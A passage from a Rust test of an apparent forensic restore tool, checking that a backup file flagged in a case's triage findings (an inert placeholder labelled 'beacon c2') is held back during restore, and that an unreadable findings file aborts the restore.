    assert!(findings.exists(), "{}", text(&o));

    let backup = d.path().join("backup");
    put(&backup, "srv/data/.sync/agent.conf", b"beacon c2\n", 0o644);
    put(&backup, "srv/data/report.txt", b"numbers\n", 0o644);
    let restore = |target: &Path, report: &Path, rescue_system: bool| {
        let args = [
            "restore",
            s(&backup),
            s(target),
            "--report-dir",
            s(report),
            "--reason",
            "test target",
        ];
        if rescue_system {
            in_rescue(&args)
        } else {
            rescue(&args)
        }
    };
    // Inside the rescue system, without --findings: the case's findings hold the planted file.
    let (target, report) = (d.path().join("t1"), d.path().join("r1"));
    std::fs::create_dir_all(&target).unwrap();
    let o = restore(&target, &report, true);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains(&format!(
            "screening with the findings of this case's triage of {}: {}",
            root.display(),
            findings.display()
        )),
        "{out}"
    );
    assert!(
        out.contains("HELD      srv/data/.sync/agent.conf: finding"),
        "{out}"
    );
    assert!(!target.join("srv/data/.sync/agent.conf").exists());
    assert_eq!(
        std::fs::read(target.join("srv/data/report.txt")).unwrap(),
        b"numbers\n"
    );
    let m = manifest(&report);
    assert_eq!(record(&m, "srv/data/.sync/agent.conf")["action"], "held");
    assert_eq!(
        m["findings"]["from_case"],
        serde_json::json!([findings.canonicalize().unwrap().display().to_string()]),
        "{}",
        m["findings"]
    );
    // The same restore on a host (no case): nothing holds it.
    let (target, report) = (d.path().join("t2"), d.path().join("r2"));
    std::fs::create_dir_all(&target).unwrap();
    let o = restore(&target, &report, false);
    assert!(o.status.success(), "{}", text(&o));
    assert!(target.join("srv/data/.sync/agent.conf").exists());
    // A findings file the case recorded but that cannot be read stops the restore before any write.
    std::fs::rename(&findings, d.path().join("moved.json")).unwrap();
    let (target, report) = (d.path().join("t3"), d.path().join("r3"));
    std::fs::create_dir_all(&target).unwrap();
    let o = restore(&target, &report, true);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("recorded its findings in") && text(&o).contains("cannot be read"),
        "{}",
        text(&o)
    );
    assert!(!target.join("srv/data/report.txt").exists());
}
